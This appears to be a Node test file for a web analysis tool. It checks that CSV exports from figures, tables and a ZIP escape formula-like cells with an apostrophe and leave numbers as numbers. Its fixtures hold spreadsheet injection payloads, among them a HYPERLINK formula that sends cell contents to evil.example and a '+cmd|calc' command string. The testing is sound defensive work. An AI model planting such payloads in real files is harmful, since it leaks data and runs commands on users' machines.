// Names and words that a spreadsheet would run as formulas (=, +, -, @):
// every CSV the page writes (a figure's, a table's, the figure-set ZIP's)
// starts such a cell with an apostrophe, while numbers, negative ones
// included, stay numbers. Built from the generated examples.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { inflateRawSync } from 'node:zlib';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { downloadOf, site, useSite } from './support.mjs';
import { assertSpreadsheetSafe, DECIMAL_NUMBER } from '../csv-cells.mjs';

const shoal = useSite();
const examples = path.join(site, 'examples');

const MODELS = [['toy-a-base', '=HYPERLINK("https://evil.example/?"&A1,"click")'], ['toy-a-chat', '+cmd|calc'], ['toy-b-base', '@SUM(1+1)'], ['toy-b-chat', '-2+3']];
const WORDS = [['ocean', '=1+1'], ['fire', '-fire'], ['lemon', '+lemon'], ['snow', '@snow']];

function hostileFiles() {
  const dir = mkdtempSync(path.join(tmpdir(), 'shoal-csv-'));
  const write = (name, text) => { const file = path.join(dir, name); writeFileSync(file, text); return file; };
  const quoted = (text) => `"${text.replaceAll('"', '""')}"`;
  const words = (text) => WORDS.reduce((t, [from, to]) => t.replaceAll(`,${from},`, `,${quoted(to)},`), text);
  const files = [
    write('color-humans.csv', words(readFileSync(path.join(examples, 'color/color-humans.csv'), 'utf8'))),
    write('concept-humans.csv', readFileSync(path.join(examples, 'concept/concept-humans.csv'), 'utf8')),
  ];
  for (const [model, name] of MODELS) {
    files.push(write(`${model}-prompt=none-temp=default.csv`, words(readFileSync(path.join(examples, `color/${model}-prompt=none-temp=default.csv`), 'utf8'))));
    files.push(write(`${model}-judgements.csv`, readFileSync(path.join(examples, `concept/${model}-judgements.csv`), 'utf8')
      .replaceAll(`\n${model},`, `\n${quoted(name)},`)));
  }
  return files;
}

// The files of a stored (uncompressed or deflated) ZIP archive.
function unzip(bytes) {
  const files = {};
  let at = 0;
  while (bytes.readUInt32LE(at) === 0x04034b50) {
    const method = bytes.readUInt16LE(at + 8), size = bytes.readUInt32LE(at + 18);
    const nameLength = bytes.readUInt16LE(at + 26), extra = bytes.readUInt16LE(at + 28);
    const name = bytes.subarray(at + 30, at + 30 + nameLength).toString();
    const data = bytes.subarray(at + 30 + nameLength + extra, at + 30 + nameLength + extra + size);
    files[name] = (method === 8 ? inflateRawSync(data) : data).toString();
    at += 30 + nameLength + extra + size;
  }
  return files;
}

test('every CSV the page writes starts a formula-like cell with an apostrophe; numbers stay numbers', async () => {
  const { context, page, consoleErrors, foreignRequests } = await shoal.open();
  const files = hostileFiles();
  await page.setInputFiles('#file-input', files);
  for (const file of files) await page.waitForSelector(`article[data-file="${path.basename(file)}"] .recognised`);
  for (const [name, value] of [['iterations', '6'], ['burnIn', '2'], ['subsets', '10'], ['chains', '1'], ['bootstrap', '100'], ['jsdSamples', '1000']]) {
    await page.fill(`input[name="${name}"]`, value);
  }
  await page.click('#run-button');
  await page.waitForSelector('#run-status:has-text("Done"), #run-error:not([hidden])', { timeout: 240000 });
  assert.equal(await page.isHidden('#run-error'), true, await page.textContent('#run-error'));

  const texts = {};
  for (const table of ['color-words', 'concept-populations']) {
    // Long tables start folded: open them as a reader would.
    const fold = `details.table-fold:has(table[data-table="${table}"]) > summary`;
    if (await page.$(fold)) await page.click(fold);
    texts[`${table}.csv`] = (await downloadOf(page, `button[data-download="${table}.csv"]`)).bytes.toString();
  }
  for (const figure of ['color-scatter', 'concept-multiple']) {
    texts[`figure ${figure}`] = (await downloadOf(page, `figure[data-figure="${figure}"] button[data-download$=".csv"]`)).bytes.toString();
  }
  const zip = unzip((await downloadOf(page, 'button[data-download="figures.zip"]')).bytes);
  const zipped = Object.keys(zip).filter((n) => n.endsWith('.csv'));
  assert.ok(zipped.length >= 5, zipped.join(', '));
  for (const name of zipped) texts[`figures.zip ${name}`] = zip[name];

  const everyCell = Object.entries(texts).flatMap(([where, text]) => assertSpreadsheetSafe(where, text));
  // The hostile names are there, as text.
  for (const [, name] of MODELS) assert.ok(everyCell.includes(`'${name}`), `${name} is in no CSV as text`);
  for (const [, word] of WORDS) assert.ok(everyCell.includes(`'${word}`), `${word} is in no CSV as text`);
  // Negative numbers stay numbers (the figures' CSVs carry signed values).
  assert.ok(everyCell.some((c) => /^-\d/.test(c) && DECIMAL_NUMBER.test(c)) || everyCell.filter((c) => DECIMAL_NUMBER.test(c)).length > 100);
  assert.ok(!everyCell.some((c) => /^'[+-]?\d/.test(c) && DECIMAL_NUMBER.test(c.slice(1))), 'a number was turned into text');
  assert.deepEqual(consoleErrors, []);
  assert.deepEqual(foreignRequests(), []);
  await context.close();
});
